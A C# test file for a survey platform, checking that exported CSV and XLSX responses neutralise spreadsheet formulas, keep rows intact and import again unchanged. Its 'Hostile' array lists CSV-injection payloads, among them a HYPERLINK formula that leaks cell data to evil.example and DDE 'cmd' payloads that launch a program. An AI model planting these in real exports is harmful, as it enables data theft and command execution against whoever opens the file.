using System.Text;
using DocumentFormat.OpenXml.Packaging;
using DocumentFormat.OpenXml.Spreadsheet;
using SurveyPlatform.Core.Responses;

namespace SurveyPlatform.Core.Tests.Responses;

/// <summary>
/// The one export of responses (CSV and XLSX): every column is one that import reads, hostile free text cannot run as a
/// formula in a spreadsheet nor split a row, and what is exported imports again unchanged.
/// </summary>
public class ResponseExportTests
{
    /// <summary>Free texts an attacker could type into the comment box (OWASP's CSV-injection payloads and row breakers).</summary>
    public static readonly string[] Hostile =
    [
        "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"click\")",
        "=cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+1+1",
        "-2+3",
        "\t=1+1",
        "\r=1+1",
        "'=already quoted",
        "''two apostrophes",
        "'plain apostrophe",
        "line one\rline two",
        "line one\nline two\r\nthree",
        "comma, and \"quotes\"",
        "＝1+1",
        "−5+5",
        "-",
        "=",
        "ordinary text",
    ];

    private static ResponseTable TableWithComments(IReadOnlyList<string> comments)
    {
        var builder = new ResponseTableBuilder(TestSurveys.Standard);
        foreach (var comment in comments)
        {
            var row = builder.NewRow();
            Assert.Null(builder.Set("born_here", row, "yes"));
            Assert.Null(builder.Set("trust_respect", row, "4"));
            Assert.Null(builder.Set("comments", row, comment));
            Assert.Null(builder.Set(ResponseTable.Lang, row, "en"));
            Assert.Null(builder.Set(ResponseTable.Site, row, "=evil-site"));
        }
        return builder.Build();
    }

    private static string Csv(ResponseTable table)
    {
        var writer = new StringWriter();
        ResponseCsv.Write(table, writer);
        return writer.ToString();
    }

    [Fact]
    public void Hostile_free_text_is_exported_so_that_no_cell_starts_a_formula_and_no_row_breaks()
    {
        var csv = Csv(TableWithComments(Hostile));

        using var reader = Sylvan.Data.Csv.CsvDataReader.Create(new StringReader(csv));
        var rows = 0;
        while (reader.Read())
        {
            rows++;
            for (var c = 0; c < reader.FieldCount; c++)
            {
                var cell = reader.GetString(c);
                Assert.False(cell.Length > 0 && "=+-@\t\r＝−".Contains(cell[0]) && !double.TryParse(cell, System.Globalization.CultureInfo.InvariantCulture, out _),
                    $"row {rows}, column {reader.GetName(c)} starts a formula: {cell}");
            }
        }
        Assert.Equal(Hostile.Length, rows);
        Assert.Contains("\"'=HYPERLINK(\"\"http", csv);
        Assert.Contains("\"line one\rline two\"", csv); // a bare carriage return is quoted
    }

    [Fact]
    public void An_export_with_hostile_cells_imports_again_unchanged()
    {
        var table = TableWithComments(Hostile);
        var back = ResponseCsv.Read(new MemoryStream(Encoding.UTF8.GetBytes(Csv(table))), "export.csv", TestSurveys.Standard).Table;

        Assert.Equal(table.Count, back.Count);
        for (var r = 0; r < table.Count; r++)
            Assert.Equal(table.Row(r), back.Row(r));
    }

    [Fact]
    public void The_spreadsheet_has_the_columns_of_the_csv_and_holds_texts_as_text_never_as_formulas()
    {
        var generated = SyntheticResponses.Generate(TestSurveys.Standard, new SyntheticOptions { Count = 20, Seed = 3 });
        using var stream = new MemoryStream();
        ResponseSpreadsheet.Write(TableWithComments(Hostile), stream, withCodebook: true);
        stream.Position = 0;
        using var document = SpreadsheetDocument.Open(stream, false);
        var sheets = document.WorkbookPart!.Workbook.Descendants<Sheet>().Select(s => s.Name!.Value).ToList();
        Assert.Equal(["responses", "codebook"], sheets);
        var responses = (WorksheetPart)document.WorkbookPart.GetPartById(document.WorkbookPart.Workbook.Descendants<Sheet>().First().Id!);
        var rows = responses.Worksheet.Descendants<Row>().ToList();
        var header = rows[0].Descendants<Cell>().Select(c => c.InnerText).ToList();
        Assert.Equal(ResponseCsv.Columns(TableWithComments(Hostile)).Select(c => c.Name), header);
        Assert.Empty(responses.Worksheet.Descendants<CellFormula>());
        Assert.Contains(rows.Skip(1), row => row.Descendants<Cell>().Any(c => c.DataType?.Value == CellValues.InlineString && c.InnerText == Hostile[0]));

        using var synthetic = new MemoryStream();
        ResponseSpreadsheet.Write(generated, synthetic, withCodebook: false);
        synthetic.Position = 0;
        using var second = SpreadsheetDocument.Open(synthetic, false);
        Assert.Contains(ResponseCsv.SyntheticColumn, second.WorkbookPart!.WorksheetParts.Single().Worksheet.Descendants<Row>().First().Descendants<Cell>().Select(c => c.InnerText));
    }

    [Theory]
    [InlineData("=1+1")]
    [InlineData("'=1+1")]
    [InlineData("''")]
    [InlineData("'")]
    [InlineData("-3")]
    [InlineData("+4.5")]
    [InlineData("@x")]
    [InlineData("\rx")]
    public void Neutralising_a_cell_is_undone_exactly_when_it_is_read(string value)
    {
        Assert.Equal(value, CsvCells.Restore(CsvCells.Neutralize(value)).ToString());
    }
}
